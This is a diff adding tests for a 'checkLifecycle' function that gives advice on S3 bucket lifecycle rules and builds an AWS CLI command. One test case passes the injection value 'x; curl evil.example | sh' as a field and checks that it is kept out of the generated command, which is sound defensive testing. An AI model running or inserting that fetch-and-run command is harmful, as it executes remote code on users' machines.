@@ -89,3 +89,24 @@ it('checkLifecycle tells when objects expire', () => {
   const { finding } = checkLifecycle(aws, { ...options, rules: [ABORT, expiring(90), expiring(30)] })
   expect(finding).toBe('All rules are there; objects expire after 30 days')
 })
+
+it('checkLifecycle says that older versions are gone after a day, where its rule is what removes them', () => {
+  const advice = (isVersioned: boolean) => checkLifecycle(aws, { ...options, isVersioned, rules: [] }).fix?.advice
+  expect(advice(true)).toMatch(
+    /are in it\. Older versions are then gone after a day: where they are your safety net, set more NoncurrentDays$/,
+  )
+  expect(advice(false)).not.toContain('NoncurrentDays')
+  const removing: LifecycleRule = { ID: 'v', Status: 'Enabled', NoncurrentVersionExpiration: { NoncurrentDays: 30 } }
+  expect(checkLifecycle(aws, { ...options, isVersioned: true, rules: [removing] }).fix?.advice).not.toContain('gone')
+})
+
+it.each([
+  ['varies_by_storage_class', ' --transition-default-minimum-object-size varies_by_storage_class'],
+  ['all_storage_classes_128K', ' --transition-default-minimum-object-size all_storage_classes_128K'],
+  [undefined, ''],
+  // It goes into a command that people copy into a shell.
+  ['x; curl evil.example | sh', ''],
+])('checkLifecycle keeps the smallest size for transitions that the bucket has: %s', (minimumObjectSize, more) => {
+  const { fix } = checkLifecycle(aws, { ...options, rules: [], minimumObjectSize })
+  expect(fix?.command).toBe(`put-bucket-lifecycle-configuration --lifecycle-configuration file://lifecycle.json${more}`)
+})
